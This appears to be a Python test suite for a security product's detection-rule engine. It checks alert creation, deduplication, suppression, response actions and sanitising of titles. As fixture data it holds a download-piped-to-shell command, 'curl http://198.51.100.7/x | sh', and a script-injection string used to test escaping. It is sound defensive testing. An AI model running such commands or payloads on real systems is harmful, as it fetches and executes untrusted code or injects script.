"""What becomes of the rows that rules found, on both databases."""

from __future__ import annotations

from collections.abc import Iterable
from datetime import timedelta
from typing import Any

import pytest
from sqlalchemy import select

from shieldwall.alerts.models import Alert
from shieldwall.detection.rules import rule_set
from shieldwall.detection.rules.actions import read_actions
from shieldwall.detection.rules.decision import Decision
from shieldwall.detection.rules.hits import Outcome, raise_hits, raise_rule_alerts
from shieldwall.detection.rules.models import RuleResponse, RuleRun, RuleSuppression
from shieldwall.detection.rules.rule import RuleHit
from shieldwall.detection.rules.service import RuleService
from shieldwall.state.engine import Database
from shieldwall.times import now, to_text
from tests.conftest import OTHER_TENANT, TENANT
from tests.detection.rules.conftest import ANYBODY, DEVICE, START, hit, rule


def raised(database: Database, hits: Iterable[RuleHit]) -> Outcome:
    with database.system_session() as session:
        outcomes = raise_hits(session, hits, rule_set.load(session), 86400, START)
    return next(iter(outcomes.values()), Outcome())


def alerts(database: Database) -> list[Alert]:
    with database.read(TENANT) as session:
        found = list(session.scalars(select(Alert).order_by(Alert.first_event_time, Alert.id)))
        for alert in found:
            assert alert.evidence
        return found


def test_an_alert_says_what_the_rule_says_of_the_event(rules: RuleService, database: Database) -> None:
    rules.create(ANYBODY, rule(details={"Command": "ProcessCommandLine"}, recommended_action="Look."))
    outcome = raised(database, [hit()])
    assert (outcome.rows, outcome.alerts) == (1, 1)
    [alert] = alerts(database)
    assert alert.title == "Download piped to a shell on web01"
    assert alert.description == "curl was run by www-data."
    assert (alert.severity, alert.category, alert.detection_source) == (
        "Medium",
        "Execution",
        "CustomDetection",
    )
    assert (alert.machine_id, alert.detector_id) == (DEVICE, "curl-to-shell")
    assert alert.mitre_techniques == ["T1059.004"]
    assert alert.recommended_action == "Look."
    assert alert.custom_details == {"Command": "curl http://198.51.100.7/x | sh"}
    kinds = {item.entity_type: item for item in alert.evidence}
    assert kinds["Process"].process_id == 500
    assert kinds["Process"].parent_process_id == 400
    assert kinds["User"].account_name == "www-data"


def test_hits_of_a_continuous_rule_on_a_day_are_one_alert(rules: RuleService, database: Database) -> None:
    rules.create(ANYBODY, rule())
    assert vars(raised(database, [hit(n) for n in range(30)])) == {
        "rows": 30,
        "alerts": 1,
        "repeated": 0,
        "suppressed": 0,
        "over_limit": 0,
    }
    assert raised(database, [hit(31), hit(32)]).repeated == 2
    tomorrow = hit(0, Timestamp=START + timedelta(days=1))
    other = hit(40, AccountName="root")
    assert raised(database, [tomorrow, other]).alerts == 2
    assert [alert.event_count for alert in alerts(database)] == [32, 1, 1]


def test_the_same_event_in_two_runs_of_a_scheduled_rule_is_one_alert(
    rules: RuleService, database: Database
) -> None:
    rules.create(ANYBODY, rule(period=60))
    assert raised(database, [hit(1), hit(2)]).alerts == 2
    again = raised(database, [hit(2), hit(3)])
    assert (again.alerts, again.repeated) == (1, 1)
    # Rows as hunting gives them: times are text.
    texts = [
        RuleHit(
            "curl-to-shell",
            TENANT,
            "DeviceProcessEvents",
            {k: to_text(v) if hasattr(v, "year") else v for k, v in hit(3).row.items()},
        )
    ]
    assert raised(database, texts).alerts == 0
    assert len(alerts(database)) == 3


def test_other_details_of_the_same_event_are_another_alert(rules: RuleService, database: Database) -> None:
    rules.create(
        ANYBODY,
        rule(
            period=60,
            details={"Why": "Reason"},
            query="print Reason='', DeviceName='', FileName='', AccountName=''",
        ),
    )
    assert raised(database, [hit(1, Reason="a"), hit(1, Reason="b"), hit(1, Reason="a")]).alerts == 2


def test_a_run_raises_so_many_alerts_and_counts_the_rest(rules: RuleService, database: Database) -> None:
    rules.create(ANYBODY, rule(period=60))
    outcome = raised(database, [hit(n) for n in range(170)])
    assert (outcome.alerts, outcome.over_limit) == (150, 20)
    # What was left over is still there for the next run; what was raised takes no place of it.
    outcome = raised(database, [hit(n) for n in range(170)])
    assert (outcome.alerts, outcome.repeated, outcome.over_limit) == (20, 150, 0)


def test_suppressed_hits_raise_nothing_and_are_counted(rules: RuleService, database: Database) -> None:
    rules.create(ANYBODY, rule())
    rules.suppress(ANYBODY, rule().id, "AccountName", "WWW-data", "deploys", device_group="Desks")
    assert raised(database, [hit()]).suppressed == 0
    rules.suppress(ANYBODY, rule().id, "AccountName", "WWW-data", "deploys", device="WEB01")
    outcome = raised(database, [hit(1), hit(2), hit(3, AccountName="root")])
    assert (outcome.rows, outcome.suppressed, outcome.alerts) == (3, 2, 1)
    with database.read(TENANT) as session:
        wanted = select(RuleSuppression.hits).order_by(RuleSuppression.id)
        assert list(session.scalars(wanted)) == [0, 2]


def test_a_suppression_is_for_one_product_and_ends(rules: RuleService, database: Database) -> None:
    rules.create(ANYBODY, rule())
    soon = now() + timedelta(hours=1)
    rules.suppress(ANYBODY, rule().id, "AccountName", "www-data", "x", product="Sysmon", expires=soon)
    assert raised(database, [hit(1, Source="Zeek")]).suppressed == 0
    assert raised(database, [hit(2, Source="sysmon")]).suppressed == 1
    with database.system_session() as session:
        session.scalars(select(RuleSuppression)).one().expires_time = now() - timedelta(seconds=1)
    assert raised(database, [hit(3, Source="sysmon")]).suppressed == 0


def test_a_rule_for_device_groups_is_nothing_elsewhere(rules: RuleService, database: Database) -> None:
    actions = read_actions(["Isolate"])
    rules.create(ANYBODY, rule(), Decision(device_groups=["Servers"], actions=actions))
    assert raised(database, [hit(MachineGroup="Desks")]) == Outcome()
    without = {k: v for k, v in hit().row.items() if k != "MachineGroup"}
    # Where the row does not tell, the device's group counts.
    assert raised(database, [RuleHit(rule().id, TENANT, "", without)]).alerts == 1
    with database.read(TENANT) as session:
        assert len(session.scalars(select(RuleResponse)).all()) == 1


def test_actions_are_written_down_once_with_the_alert(rules: RuleService, database: Database) -> None:
    wanted = read_actions(["Isolate", "BlockFile", {"kind": "StopAndQuarantine", "column": "SHA1"}])
    rules.create(ANYBODY, rule(period=60), Decision(actions=wanted))
    raised(database, [hit(1)])
    raised(database, [hit(1), hit(1)])
    raised(database, [hit(2, SHA1="not a hash")])
    with database.read(TENANT) as session:
        asked = [(row.kind, row.target, row.status) for row in session.scalars(select(RuleResponse))]
    assert sorted(asked) == [
        ("BlockFile", "1" * 40, "Pending"),
        ("Isolate", DEVICE, "Pending"),
        ("Isolate", DEVICE, "Pending"),
        ("StopAndQuarantine", "1" * 40, "Pending"),
    ]


def test_a_rule_that_is_off_or_gone_raises_nothing(rules: RuleService, database: Database) -> None:
    rules.create(ANYBODY, rule(), Decision(enabled=False))
    assert raised(database, [hit(), hit(rule_id="never"), hit(tenant=OTHER_TENANT)]) == Outcome()


def test_groups_of_an_hour_are_one_record(rules: RuleService, database: Database) -> None:
    rules.create(ANYBODY, rule())
    for numbers in ([1, 2], [3], [4, 5, 6]):
        with database.system_session() as session:
            raise_rule_alerts(session, [hit(n) for n in numbers], rule_set.load(session), 86400)
    runs = rules.runs(TENANT, rule().id)
    assert sum(run.rows for run in runs) == 6
    assert sum(run.alerts for run in runs) == 1
    assert len(runs) <= 2  # the hour may have ended just now
    assert all(isinstance(run, RuleRun) and run.kind == "Continuous" for run in runs)


@pytest.mark.parametrize(
    "row",
    [
        {},
        {"Timestamp": "yesterday", "DeviceId": 7, "ReportId": []},
        {"DeviceName": "web01\x00", "ProcessCommandLine": "a\x00b" * 20_000, "ProcessId": "12x"},
        {"DeviceId": "x" * 500, "FileName": "n" * 5000, "SHA1": "z" * 900, "AccountName": "u" * 900},
        {"ProcessId": 1 << 70, "InitiatingProcessId": -(1 << 70), "RegistryKey": "HKLM" + "\\k" * 90_000},
    ],
)
def test_whatever_a_row_holds_is_an_alert(
    rules: RuleService, database: Database, row: dict[str, Any]
) -> None:
    rules.create(ANYBODY, rule())
    for table in ("DeviceProcessEvents", "DeviceRegistryEvents", ""):
        raised(database, [RuleHit(rule().id, TENANT, table, row)])
    with database.read(TENANT) as session:
        assert session.scalars(select(Alert.id)).all()


def test_values_in_titles_are_plain_text(rules: RuleService, database: Database) -> None:
    rules.create(ANYBODY, rule())
    raised(database, [hit(DeviceName="web\u202e01\n<script>alert(1)</script>" + "x" * 900)])
    [alert] = alerts(database)
    assert alert.title.startswith("Download piped to a shell on web 01 script alert(1) /script xxx")
    assert len(alert.title) < 400


def test_details_that_are_too_large_are_left_out(rules: RuleService, database: Database) -> None:
    rules.create(ANYBODY, rule(details={"Command": "ProcessCommandLine"}))
    raised(database, [hit(ProcessCommandLine="x" * 4096)])
    assert alerts(database)[0].custom_details is None


def test_columns_that_the_rule_names_become_entities(rules: RuleService, database: Database) -> None:
    entities = {"Ip": "Peer", "File": "Dropped", "User": "Who", "Device": "Host", "Url": "Link"}
    query = "print Peer='', Dropped='', Who='', Host='', Link=''"
    rules.create(ANYBODY, rule(query=query, title="t", description="", entities=entities, period=60))
    row = {
        "Peer": "203.0.113.9",
        "Dropped": "/tmp/x/evil.so",
        "Who": "CORP\\ann",
        "Host": "web01",
        "Link": "http://e.example/",
    }
    raised(database, [RuleHit(rule().id, TENANT, "", row)])
    [alert] = alerts(database)
    assert alert.machine_id == DEVICE
    assert alert.first_event_time == START
    found = {item.entity_type: item for item in alert.evidence}
    assert found["Ip"].ip_address == "203.0.113.9"
    assert (found["File"].file_path, found["File"].file_name) == ("/tmp/x", "evil.so")
    assert (found["User"].domain_name, found["User"].account_name) == ("CORP", "ann")
    assert found["Url"].url == "http://e.example/"
